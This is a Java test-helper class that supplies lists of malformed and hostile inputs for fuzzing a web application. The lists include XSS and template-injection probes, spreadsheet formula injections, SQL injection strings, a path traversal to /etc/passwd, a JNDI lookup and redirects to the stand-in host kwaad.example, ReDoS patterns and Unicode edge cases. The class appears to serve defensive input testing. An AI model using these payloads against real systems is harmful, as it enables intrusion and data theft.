package nl.koppelwerk.trust.abuse;

import java.util.List;
import java.util.Random;

/** What to type where something else was expected. */
final class Nasty {
    /** Tells itself apart when it runs. */
    static final String SCRIPT = "<script>window.kwRan=1</script>";

    static final List<String> MARKUP = List.of(
            SCRIPT,
            "\"><script>window.kwRan=1</script>",
            "'\"--></style></script><img src=x onerror=window.kwRan=1>",
            "<svg/onload=window.kwRan=1>",
            "<iframe srcdoc='<script>parent.kwRan=1</script>'>",
            "javascript:window.kwRan=1",
            "\" autofocus onfocus=window.kwRan=1 x=\"",
            "' onmouseover='window.kwRan=1",
            "</textarea><script>window.kwRan=1</script>",
            "</title><script>window.kwRan=1</script>",
            "<details open ontoggle=window.kwRan=1>",
            "<base href=https://kwaad.example/>",
            "<meta http-equiv=refresh content='0;url=https://kwaad.example/'>",
            "<form action=https://kwaad.example/><button>Verder</button></form>",
            "[[${7*191}]]",
            "__${T(java.lang.Runtime).getRuntime()}__::.x",
            "${7*191}#{7*191}*{7*191}~{x}",
            "{{7*191}}",
            "&lt;script&gt;window.kwRan=1&lt;/script&gt;",
            "\u003cimg src=x onerror=window.kwRan=1\u003e");

    static final List<String> FORMULAS = List.of(
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"https://kwaad.example\",\"klik\")",
            "+1+cmd|'/C calc'!A0",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\uFF1D1+1",
            "\"=1+1",
            ";=1+1",
            "x;=1+1",
            "x\n=1+1",
            "'=1+1");

    static final List<String> LETTERS = List.of(
            "\u0000",
            "a\u0000b",
            "\u0001\u0007\u001B[31m",
            "\u202Egnp.exe",
            "\u2066\u2067\u202A\u202E",
            "\uFEFF",
            "\u200B\u200D",
            "\uD800",
            "\uDFFFx",
            "👩‍👩‍👧‍👦".repeat(40),
            "e\u0301\u0327".repeat(60),
            "\uFDFA".repeat(300),
            "\uFFFE\uFFFF",
            "İıſK",
            "x".repeat(10_000),
            " ".repeat(10_000),
            "\n".repeat(3_000));

    static final List<String> WORDS = List.of(
            "",
            " ",
            "'",
            "'; drop table family; --",
            "' or '1'='1",
            "\\'; select pg_sleep(20); --",
            "%",
            "_%_%_%_%_%_%_%_%_%",
            "%00",
            "../../../etc/passwd",
            "a,b,c",
            "null",
            "undefined",
            "true",
            "{0}{1}{9999}",
            "%s%n%1000000000d",
            "${jndi:ldap://kwaad.example/a}",
            "(a+)+$",
            "((((((((((a*)*)*)*)*)*)*)*)*)*b",
            "*:* | & ! <-> ( ) :* ''",
            "x".repeat(300) + "@" + "y".repeat(300) + ".example");

    static final List<String> NUMBERS = List.of(
            "-1",
            "0",
            "1e9",
            "1E+2147483647",
            "0x10",
            "007",
            "1,5",
            "2147483648",
            "-9223372036854775809",
            "99999999999999999999999999",
            "NaN",
            "Infinity",
            "-0",
            "٣٢",
            "0.0000000000000000000000000001",
            "9".repeat(400));

    static final List<String> TIMES = List.of(
            "2026-02-30",
            "31-02-2026",
            "0000-00-00",
            "-999999999-01-01",
            "+999999999-12-31",
            "9999-12-31",
            "10000-01-01",
            "0001-01-01",
            "294277-01-01",
            "-4713-01-01",
            "2026-13",
            "2026-W54",
            "25:61",
            "24:00",
            "2026-03-29T02:30",
            "2026-11-21T09:00:00Z");

    static final List<String> IDS = List.of(
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "11111111-1111-1111-1111-111111111111,22222222-2222-2222-2222-222222222222",
            "not-a-uuid",
            "1-1-1-1-1");

    static final List<List<String>> KINDS = List.of(MARKUP, FORMULAS, LETTERS, WORDS, NUMBERS, TIMES, IDS);

    private Nasty() {}

    /** One of each kind as often as another. */
    static String any(Random random) {
        List<String> kind = KINDS.get(random.nextInt(KINDS.size()));
        return kind.get(random.nextInt(kind.size()));
    }

    /** Short enough to be read in a table, with nothing in it that a terminal would obey. */
    static String shown(String text) {
        StringBuilder shown = new StringBuilder();
        text.chars()
                .limit(60)
                .forEach(letter -> shown.append(
                        letter >= ' ' && letter < 127 ? String.valueOf((char) letter) : "\\u%04X".formatted(letter)));
        return text.length() > 60 ? shown + "… (" + text.length() + " characters)" : shown.toString();
    }
}
